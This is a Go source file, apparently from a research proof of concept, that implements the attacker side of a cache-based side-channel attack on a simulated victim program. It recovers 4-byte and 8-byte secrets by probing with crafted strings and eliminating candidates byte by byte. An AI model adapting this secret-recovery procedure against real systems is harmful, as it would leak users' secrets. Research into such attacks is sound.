package attacker

import (
	"github.com/matthewm101/yacc-cpack-cache-attack/pkg/tracelog"
	"github.com/matthewm101/yacc-cpack-cache-attack/pkg/victim"
)

// Attack4Byte recovers a 4-byte victim secret via three-phase elimination:
// narrow the leading short, then the second byte, then the last byte, and
// validate the single resulting guess.
func Attack4Byte(v *victim.Program, verbose bool) Stats {
	stats := Stats{}
	bufferState := make([]byte, 60)

	potentialShorts := allShorts()
	if verbose {
		tracelog.Attacker("cracking the leading short...")
	}
	for len(potentialShorts) > 6 {
		batch, rest := takeLastShorts(potentialShorts, 6)
		attackString := FirstAttackString(batch, nil, 4)
		if Probe(v, attackString, bufferState, &stats) {
			potentialShorts = batch
		} else {
			potentialShorts = rest
		}
	}
	if verbose {
		tracelog.Attacker("leading short is one of: %X", potentialShorts)
	}

	excludeShorts := toShortSet(potentialShorts)
	firstShort, found := identifyShort(v, potentialShorts, excludeShorts, 4, bufferState, &stats)
	if !found {
		tracelog.Attacker("attack failed to find the first short")
		v.PrintSecretLine()
		return stats
	}
	if verbose {
		tracelog.Attacker("first short found: %X", firstShort)
	}

	secondByte, found := crackSecondByte(v, 4, firstShort, bufferState, &stats, verbose)
	if !found {
		tracelog.Attacker("attack failed to find the second-least byte (first short is %X)", firstShort)
		v.PrintSecretLine()
		return stats
	}
	if verbose {
		tracelog.Attacker("second byte found: %X", secondByte)
	}

	lastByte, found := crackLastByte(v, 4, firstShort, secondByte, bufferState, &stats, verbose)
	if !found {
		tracelog.Attacker("attack failed to find the last byte (first short %X, second byte %X)", firstShort, secondByte)
		v.PrintSecretLine()
		return stats
	}
	if verbose {
		tracelog.Attacker("last byte found: %X", lastByte)
	}

	secret := []byte{lastByte, secondByte, byte(firstShort & 0xFF), byte((firstShort >> 8) & 0xFF)}
	stats.GuessesNeeded++
	if v.ValidateSecret(secret) {
		stats.Success = true
		stats.Secret = secret
		if verbose {
			tracelog.Attacker("guess was correct: %X", secret)
		}
	} else if verbose {
		tracelog.Attacker("guess was wrong: %X", secret)
	}
	return stats
}

// Attack8Byte recovers an 8-byte victim secret. Phase 1 shortlists every
// batch of leading shorts that probes true and then identifies the two
// leading shorts one at a time; phases 2 and 3 crack each word's second
// and last byte separately. The probes cannot tell which word came first
// in the buffer, so it validates up to two assembled guesses (both
// orderings of the two words).
func Attack8Byte(v *victim.Program, verbose bool) Stats {
	stats := Stats{}
	bufferState := make([]byte, 56)

	potentialShorts := allShorts()
	var shortlist []uint16
	if verbose {
		tracelog.Attacker("cracking the leading shorts...")
	}
	for len(potentialShorts) > 0 {
		n := 5
		if len(potentialShorts) < n {
			n = len(potentialShorts)
		}
		batch, rest := takeLastShorts(potentialShorts, n)
		attackString := FirstAttackString(batch, nil, 8)
		if Probe(v, attackString, bufferState, &stats) {
			shortlist = append(shortlist, batch...)
		}
		potentialShorts = rest
	}
	if verbose {
		tracelog.Attacker("leading shorts are two of: %X", shortlist)
	}

	excludeShorts := toShortSet(shortlist)
	var short1, short2 uint16
	var found1, found2 bool
	for len(shortlist) > 0 && !found2 {
		shortToTest := shortlist[len(shortlist)-1]
		shortlist = shortlist[:len(shortlist)-1]
		attackString := FirstAttackString([]uint16{shortToTest}, excludeShorts, 8)
		if Probe(v, attackString, bufferState, &stats) {
			if !found1 {
				short1, found1 = shortToTest, true
			} else {
				short2, found2 = shortToTest, true
				break
			}
		}
	}
	if !found1 || !found2 {
		tracelog.Attacker("attack failed to find the first shorts")
		v.PrintSecretLine()
		return stats
	}
	if verbose {
		tracelog.Attacker("first shorts found: %X %X", short1, short2)
	}

	secondByte1, ok1 := crackSecondByte(v, 8, short1, bufferState, &stats, verbose)
	secondByte2, ok2 := crackSecondByte(v, 8, short2, bufferState, &stats, verbose)
	if !ok1 || !ok2 {
		tracelog.Attacker("attack failed to find the second-least bytes (shorts %X %X)", short1, short2)
		v.PrintSecretLine()
		return stats
	}
	if verbose {
		tracelog.Attacker("second bytes found: %X %X", secondByte1, secondByte2)
	}

	lastByte1, ok3 := crackLastByte(v, 8, short1, secondByte1, bufferState, &stats, verbose)
	lastByte2, ok4 := crackLastByte(v, 8, short2, secondByte2, bufferState, &stats, verbose)
	if !ok3 || !ok4 {
		tracelog.Attacker("attack failed to find the last bytes (shorts %X %X, second bytes %X %X)", short1, short2, secondByte1, secondByte2)
		v.PrintSecretLine()
		return stats
	}
	if verbose {
		tracelog.Attacker("last bytes found: %X %X", lastByte1, lastByte2)
	}

	word1 := []byte{lastByte1, secondByte1, byte(short1 & 0xFF), byte((short1 >> 8) & 0xFF)}
	word2 := []byte{lastByte2, secondByte2, byte(short2 & 0xFF), byte((short2 >> 8) & 0xFF)}
	guess1 := append(append([]byte{}, word1...), word2...)
	guess2 := append(append([]byte{}, word2...), word1...)

	if verbose {
		tracelog.Attacker("first guess: %X", guess1)
		tracelog.Attacker("second guess (if needed): %X", guess2)
	}

	switch {
	case v.ValidateSecret(guess1):
		stats.Success = true
		stats.Secret = guess1
		stats.GuessesNeeded++
		if verbose {
			tracelog.Attacker("first guess was correct")
		}
	case v.ValidateSecret(guess2):
		stats.Success = true
		stats.Secret = guess2
		stats.GuessesNeeded += 2
		if verbose {
			tracelog.Attacker("second guess was correct")
		}
	default:
		if verbose {
			tracelog.Attacker("both guesses were wrong")
		}
	}
	return stats
}

// crackSecondByte narrows and identifies the second-least-significant
// byte of the secret word that starts with firstShort.
func crackSecondByte(v *victim.Program, secretSize int, firstShort uint16, bufferState []byte, stats *Stats, verbose bool) (byte, bool) {
	throughput := secondByteThroughput(secretSize)
	if verbose {
		tracelog.Attacker("cracking the second byte...")
	}
	candidates := allBytes()
	for len(candidates) > throughput {
		batch, rest := takeLastBytes(candidates, throughput)
		attackString := SecondAttackString(firstShort, batch, nil, secretSize)
		if Probe(v, attackString, bufferState, stats) {
			candidates = batch
		} else {
			candidates = rest
		}
	}
	if verbose {
		tracelog.Attacker("second byte is one of: %X", candidates)
	}
	exclude := toByteSet(candidates)
	return identifySecondByte(v, candidates, firstShort, exclude, secretSize, bufferState, stats)
}

// crackLastByte narrows and identifies the least-significant byte of the
// secret word short:secondByte:??.
func crackLastByte(v *victim.Program, secretSize int, firstShort uint16, secondByte byte, bufferState []byte, stats *Stats, verbose bool) (byte, bool) {
	throughput := lastByteThroughput(secretSize)
	if verbose {
		tracelog.Attacker("cracking the last byte...")
	}
	candidates := allBytes()
	for len(candidates) > throughput {
		batch, rest := takeLastBytes(candidates, throughput)
		attackString := ThirdAttackString(firstShort, secondByte, batch, nil, secretSize)
		if Probe(v, attackString, bufferState, stats) {
			candidates = batch
		} else {
			candidates = rest
		}
	}
	if verbose {
		tracelog.Attacker("last byte is one of: %X", candidates)
	}
	exclude := toByteSet(candidates)
	return identifyLastByte(v, candidates, firstShort, secondByte, exclude, secretSize, bufferState, stats)
}

func identifyShort(v *victim.Program, candidates []uint16, exclude map[uint16]struct{}, secretSize int, bufferState []byte, stats *Stats) (uint16, bool) {
	for len(candidates) > 0 {
		c := candidates[len(candidates)-1]
		candidates = candidates[:len(candidates)-1]
		attackString := FirstAttackString([]uint16{c}, exclude, secretSize)
		if Probe(v, attackString, bufferState, stats) {
			return c, true
		}
	}
	return 0, false
}

func identifySecondByte(v *victim.Program, candidates []byte, firstShort uint16, exclude map[byte]struct{}, secretSize int, bufferState []byte, stats *Stats) (byte, bool) {
	for len(candidates) > 0 {
		c := candidates[len(candidates)-1]
		candidates = candidates[:len(candidates)-1]
		attackString := SecondAttackString(firstShort, []byte{c}, exclude, secretSize)
		if Probe(v, attackString, bufferState, stats) {
			return c, true
		}
	}
	return 0, false
}

func identifyLastByte(v *victim.Program, candidates []byte, firstShort uint16, secondByte byte, exclude map[byte]struct{}, secretSize int, bufferState []byte, stats *Stats) (byte, bool) {
	for len(candidates) > 0 {
		c := candidates[len(candidates)-1]
		candidates = candidates[:len(candidates)-1]
		attackString := ThirdAttackString(firstShort, secondByte, []byte{c}, exclude, secretSize)
		if Probe(v, attackString, bufferState, stats) {
			return c, true
		}
	}
	return 0, false
}

func secondByteThroughput(secretSize int) int {
	switch secretSize {
	case 4:
		return 9
	case 8:
		return 7
	default:
		tracelog.Fatalf("attacker: bad secret size %d", secretSize)
		return 0
	}
}

func lastByteThroughput(secretSize int) int {
	switch secretSize {
	case 4:
		return 14
	case 8:
		return 12
	default:
		tracelog.Fatalf("attacker: bad secret size %d", secretSize)
		return 0
	}
}
